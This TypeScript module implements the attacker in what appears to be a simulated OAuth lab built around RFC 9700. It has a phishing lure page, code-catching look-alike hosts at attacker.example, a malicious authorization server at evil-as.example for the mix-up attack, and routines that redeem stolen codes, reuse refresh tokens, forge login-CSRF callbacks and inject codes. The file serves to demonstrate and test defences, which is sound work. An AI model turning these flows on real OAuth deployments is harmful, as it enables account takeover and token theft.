/**
 * The attacker: its own site at `https://attacker.example` with a lure page, look-alike hosts
 * that 'lax' redirect-URI matching lets through (codes sent there are caught), a malicious
 * authorization server at `https://evil-as.example` (the mix-up attack), its own browser with its
 * own account at the honest server, and what it does with what it steals. It follows no RFC but
 * exploits the gaps RFC 9700 closes; every defence it beats can be switched back on.
 * @see https://www.rfc-editor.org/rfc/rfc9700#section-4
 */
import { basicCredentials } from './basicAuth.ts'
import { authorizationServerMetadata } from './authorizationServer.ts'
import { createBrowser, type Browser } from './browser.ts'
import { escapeHtml as e, getHeader, htmlPage, htmlResponse, jsonResponse, formParamsOf, mediaType, redirectResponse, single, withQuery } from './http.ts'
import { tokenError } from './oauthErrors.ts'
import { ORIGINS, type AttackerState, type StolenCode, type StolenTokens } from './state.ts'
import type { HeaderList, HttpRequest, HttpResponse } from './types.ts'
import type { Handler, World } from './world.ts'
import { formPost, jsonObject } from './wire.ts'
import { own } from './records.ts'

/** The client an attacker poses as at the honest token endpoint (a public client needs no secret). */
export interface AttackerClient {
  client_id: string
  /** Must repeat the authorization request's `redirect_uri` (RFC 6749 §4.1.3). */
  redirect_uri?: string
  code_verifier?: string
  client_secret?: string
}

/** What the attacker got back: the status, the parsed JSON body (`{}` when not JSON), and the raw response. */
export interface AttackerResult {
  status: number
  body: Record<string, unknown>
  response: HttpResponse
}

/** What the attacker does, one action per method; each request goes out on the network as `'attacker'`. */
export interface Attacker {
  /** The attacker's own browser (its state is `world.state.attacker.browser`). */
  readonly browser: Browser
  /** The attacker's state: what it stole and planted. */
  state(): AttackerState
  /** Sets the URL the lure page links to (`null`: no link). */
  plant(url: string | null): void
  /**
   * Redeems a stolen code at the honest token endpoint, posing as `client`; records the tokens.
   * @see https://www.rfc-editor.org/rfc/rfc6749#section-4.1.3
   */
  redeemCode(code: string, client: AttackerClient): Promise<AttackerResult>
  /**
   * Uses a stolen refresh token at the honest token endpoint; records the tokens.
   * @see https://www.rfc-editor.org/rfc/rfc6749#section-6
   */
  refresh(
    refreshToken: string,
    client: Omit<AttackerClient, 'redirect_uri' | 'code_verifier'>,
  ): Promise<AttackerResult>
  /** Calls `GET https://api.example/photos` with a stolen access token. @see https://www.rfc-editor.org/rfc/rfc6750#section-2.1 */
  callApi(accessToken: string): Promise<AttackerResult>
  /**
   * Signs in as mallory at the honest server in the attacker's own browser, for `clientId`
   * (default `demo-web-app`, without `state` or PKCE), and resolves with the callback URL carrying
   * mallory's code, without requesting it: the forged callback of login CSRF.
   * @see https://www.rfc-editor.org/rfc/rfc9700#section-4.7
   */
  obtainOwnCode(clientId?: string, options?: { scope?: string }): Promise<string>
  /**
   * Authorization code injection: in its own browser, starts a sign-in at the web app and stops at
   * the redirect to the authorization server — the app's session cookie and that sign-in's `state`
   * are now the attacker's — then delivers `code` to the app's redirect URI with that `state` (and
   * `iss`, when given), so the app redeems the code for the attacker's session. Resolves with the
   * app's answer to that callback, or null when the app started no sign-in (no redirect), in
   * which case nothing more is sent.
   * @see https://www.rfc-editor.org/rfc/rfc9700#section-4.5
   */
  injectCode(code: string, options?: { iss?: string }): Promise<HttpResponse | null>
}

/** The attacker's own account at the honest authorization server. */
export const ATTACKER_ACCOUNT = { username: 'mallory', password: 'evil-twin' } as const

function sitePage(status: number, title: string, body: string, kind: string): HttpResponse {
  return htmlResponse(
    status,
    htmlPage(e(title), `<main>\n<h1>${e(title)}</h1>\n${body}\n</main>`, kind),
    [['Cache-Control', 'no-store']],
  )
}

/**
 * The attacker's web site, for `https://attacker.example` and its look-alike hosts: `GET /` is the
 * lure page linking to the planted URL; any GET with a `code` in its query is a redirect that
 * leaked a code, which it records; anything else is 404.
 * @see https://www.rfc-editor.org/rfc/rfc9700#section-4.1
 */
export function createAttackerSite(world: World): Handler {
  const st = () => world.state.attacker
  return async (request) => {
    let url: URL
    try {
      url = new URL(request.url)
    } catch {
      return sitePage(400, 'Bad request', '<p>The request URL is not valid.</p>', 'attacker-error')
    }
    if (request.method === 'GET' || request.method === 'HEAD') {
      const code = url.searchParams.get('code')
      if (code !== null && code !== '') {
        const stolen: StolenCode = {
          code,
          state: url.searchParams.get('state'),
          url: request.url,
          via: 'redirect',
          code_verifier: null,
          client_id: null,
          at: world.now(),
        }
        st().stolenCodes.push(stolen)
        return sitePage(200, 'Thanks!', '<p>Your prize is on its way.</p>', 'attacker-thanks')
      }
      if (url.pathname === '/') {
        const planted = st().plantedUrl
        // The planted URL is data from a scenario: escaped, so it can only ever be a link.
        const link =
          planted === null
            ? '<p id="prize-closed">The giveaway opens soon. Come back later!</p>'
            : `<p><a id="prize-link" href="${e(planted)}">Claim my prize</a></p>`
        return sitePage(
          200,
          'Win free photo prints!',
          `<p>You have been selected: 100 free prints of your favourite photos.</p>\n${link}`,
          'attacker-lure',
        )
      }
    }
    return sitePage(404, 'Not found', `<p>Nothing at ${e(url.pathname)}.</p>`, 'attacker-not-found')
  }
}

/**
 * The malicious authorization server's metadata: its own endpoints under its own issuer.
 * @see https://www.rfc-editor.org/rfc/rfc8414#section-2
 */
export function maliciousAuthorizationServerMetadata(issuer: string): Record<string, unknown> {
  // What the honest server says of the same features, under its own issuer: it copies them.
  const honest = authorizationServerMetadata(issuer)
  const copied = ['issuer', 'authorization_endpoint', 'token_endpoint', 'jwks_uri', 'response_types_supported', 'response_modes_supported', 'grant_types_supported', 'code_challenge_methods_supported', 'token_endpoint_auth_methods_supported', 'authorization_response_iss_parameter_supported']
  return Object.fromEntries(copied.map((k) => [k, honest[k]]))
}

/** The client_id of HTTP Basic credentials, or null. */
function basicClientId(request: HttpRequest): string | null {
  const basic = basicCredentials(getHeader(request.headers, 'authorization'))
  return basic?.ok ? basic.id : null
}

/**
 * The malicious authorization server at `https://evil-as.example`: its `/authorize` sends the
 * user on to the honest server's with the victim client's client_id there, so the honest server
 * issues the code; its `/token` keeps whatever code (and verifier) a confused client sends it.
 * @see https://www.rfc-editor.org/rfc/rfc9700#section-4.4
 */
export function createMaliciousAuthorizationServer(world: World): Handler {
  const st = () => world.state.attacker
  const methodNotAllowed = (path: string, allow: string) =>
    jsonResponse(
      405,
      { error: 'invalid_request', error_description: `${path} accepts ${allow} only.` },
      [['Allow', allow]],
    )

  function authorize(url: URL): HttpResponse {
    const target = new URL(`${ORIGINS.authorizationServer}/authorize`)
    for (const [k, v] of url.searchParams)
      target.searchParams.append(k, k === 'client_id' ? st().evilAs.victimClientId : v)
    return redirectResponse(target.toString(), 302, [['Cache-Control', 'no-store']])
  }

  function token(request: HttpRequest): HttpResponse {
    const params =
      mediaType(request.headers) === 'application/x-www-form-urlencoded'
        ? formParamsOf(request.body)
        : new Map<string, string[]>()
    const code = single(params, 'code')
    if (code !== undefined && code !== '') {
      st().stolenCodes.push({
        code,
        state: null,
        url: request.url,
        via: 'token-request',
        code_verifier: single(params, 'code_verifier') ?? null,
        client_id: single(params, 'client_id') ?? basicClientId(request),
        at: world.now(),
      })
    }
    // It has no tokens to give: the code was the prize.
    return tokenError('invalid_grant', 'The authorization code is invalid or has expired.')
  }

  return async (request) => {
    let url: URL
    try {
      url = new URL(request.url)
    } catch {
      return jsonResponse(400, {
        error: 'invalid_request',
        error_description: 'The request URL is not valid.',
      })
    }
    const get = request.method === 'GET' || request.method === 'HEAD'
    const cache: HeaderList = [['Cache-Control', 'public, max-age=300']]
    switch (url.pathname) {
      case '/.well-known/oauth-authorization-server':
      case '/.well-known/openid-configuration':
        return get
          ? jsonResponse(200, maliciousAuthorizationServerMetadata(st().evilAs.issuer), cache)
          : methodNotAllowed(url.pathname, 'GET')
      case '/authorize':
        return get ? authorize(url) : methodNotAllowed(url.pathname, 'GET')
      case '/token':
        return request.method === 'POST' ? token(request) : methodNotAllowed(url.pathname, 'POST')
      case '/jwks':
        return get ? jsonResponse(200, { keys: [] }, cache) : methodNotAllowed(url.pathname, 'GET')
      default:
        return jsonResponse(404, {
          error: 'not_found',
          error_description: `Nothing at ${url.pathname} on evil-as.example.`,
        })
    }
  }
}

/** Creates the attacker's actions and its own browser over `world.state.attacker`. */
export function createAttacker(world: World): Attacker {
  const st = () => world.state.attacker
  const browser = createBrowser(world, {
    state: () => world.state.attacker.browser,
    role: 'attacker',
  })

  async function send(request: HttpRequest): Promise<AttackerResult> {
    const response = await world.send('attacker', 'back', request, ORIGINS.attacker)
    return { status: response.status, body: jsonObject(response.body) ?? {}, response }
  }

  const tokenRequest = (fields: Record<string, string | undefined>, client: { client_id: string; client_secret?: string }) =>
    formPost(`${ORIGINS.authorizationServer}/token`, fields, client.client_id, client.client_secret)

  function keep(result: AttackerResult, grantType: StolenTokens['grant_type'], clientId: string) {
    const b = result.body
    if (result.status !== 200 || typeof b.access_token !== 'string') return
    st().stolenTokens.push({
      grant_type: grantType,
      client_id: clientId,
      access_token: b.access_token,
      refresh_token: typeof b.refresh_token === 'string' ? b.refresh_token : null,
      id_token: typeof b.id_token === 'string' ? b.id_token : null,
      scope: typeof b.scope === 'string' ? b.scope : null,
      at: world.now(),
    })
  }

  return {
    browser,
    state: st,
    plant(url) {
      st().plantedUrl = url
    },
    async redeemCode(code, client) {
      const result = await send(
        tokenRequest(
          {
            grant_type: 'authorization_code',
            code,
            redirect_uri: client.redirect_uri,
            code_verifier: client.code_verifier,
          },
          client,
        ),
      )
      keep(result, 'authorization_code', client.client_id)
      return result
    },
    async refresh(refreshToken, client) {
      const result = await send(
        tokenRequest({ grant_type: 'refresh_token', refresh_token: refreshToken }, client),
      )
      keep(result, 'refresh_token', client.client_id)
      return result
    },
    callApi(accessToken) {
      return send({
        method: 'GET',
        url: `${ORIGINS.resourceServer}/photos`,
        headers: [
          ['Authorization', `Bearer ${accessToken}`],
          ['Accept', 'application/json'],
        ],
        body: '',
      })
    },
    async obtainOwnCode(clientId = 'demo-web-app', options = {}) {
      const registration = own(world.state.as.clients, clientId)
      const redirectUri = registration?.redirect_uris[0]
      if (redirectUri === undefined)
        throw new Error(
          `ATTACKER_UNKNOWN_CLIENT: no client "${clientId}" with a redirect URI at auth.example`,
        )
      // No state and no PKCE: the forged callback must work in someone else's browser.
      const url = withQuery(
        `${ORIGINS.authorizationServer}/authorize`,
        [
          ['response_type', 'code'],
          ['client_id', clientId],
          ['redirect_uri', redirectUri],
          ['scope', options.scope ?? 'openid profile photos.read'],
        ],
        'set',
        world.urls,
      )
      return browser.authorize(url, { ...ATTACKER_ACCOUNT, consent: 'allow' })
    },
    async injectCode(code, options = {}) {
      const web = world.state.web
      await browser.navigate(`${web.origin}/login`)
      const started = world.state.attacker.browser.pendingRedirect
      if (started === null) return null
      // The state the app made for the attacker's own sign-in: the forged callback carries it, so
      // the app's state check passes. The attacker never goes on to the authorization server.
      let state: string | null = null
      try {
        state = new URL(started).searchParams.get('state')
      } catch {
        // not a URL: no state to carry
      }
      const callback = withQuery(
        web.redirect_uri,
        [
          ['code', code],
          ...(state === null ? [] : [['state', state] as [string, string]]),
          ...(options.iss === undefined ? [] : [['iss', options.iss] as [string, string]]),
        ],
        'set',
        world.urls,
      )
      return browser.navigate(callback)
    },
  }
}
